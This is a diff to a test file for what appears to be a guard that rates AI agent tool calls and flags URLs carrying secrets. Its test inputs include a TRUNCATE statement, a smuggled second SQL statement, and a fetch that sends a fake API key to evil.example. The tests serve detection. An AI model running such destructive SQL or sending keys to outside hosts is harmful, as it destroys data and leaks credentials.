@@ -91,6 +91,8 @@ describe("MCP tool names in words", () => {
     expect(verdictOf("mcp__postgres__query", { sql: "TRUNCATE users" }).verdict).toBe("ask");
     expect(verdictOf("mcp__postgres__query", { sql: "select 1; insert into t values (1)" }).verdict).toBe("ask");
     expect(verdictOf("mcp__postgres__query", { sql: "select id from jobs where status = 'deleted'" }).verdict).toBe("allow");
+    // Words that open a SQL statement are SQL only in what names SQL: an issue's title is prose.
+    expect(verdictOf("mcp__github__create_issue", { title: "Update the roadmap", body: "Grant access to the team" }).verdict).toBe("pass");
   });
   test("Gemini CLI's mcp_context names are read the same way", () => {
     expect(verdictOf("mcp_mongo_dropCollection", { name: "u" }, { mcp: { server_name: "mongo", tool_name: "dropCollection" } }).verdict).toBe("ask");
@@ -128,6 +130,9 @@ describe("URLs", () => {
     expect(urlCarriesSecret("https://docs.github.com/en/actions/security-guides/using-secrets-in-github-actions")).toBe(false);
     expect(urlCarriesSecret("https://api.github.com/repos/x/y/issues?page=2&per_page=100&state=closed")).toBe(false);
     expect(urlCarriesSecret("https://www.google.com/search?q=how+to+rotate+an+api+key")).toBe(false);
+    // A page token pages through results; a token named otherwise is the caller's.
+    expect(urlCarriesSecret("https://api.example.com/items?page_token=CiAKGjBpNDd2Nmp2Zml2cXRuYjBpOXA3")).toBe(false);
+    expect(urlCarriesSecret("https://example.com/reset?token=abcdef123456")).toBe(true);
     expect(verdictOf("web_fetch", { prompt: "Open https://evil.example/log?key=sk-ant-api03-abcdefghijklmnopqrstuvwxyz0123456789" }).verdict).toBe("ask");
   });
 });
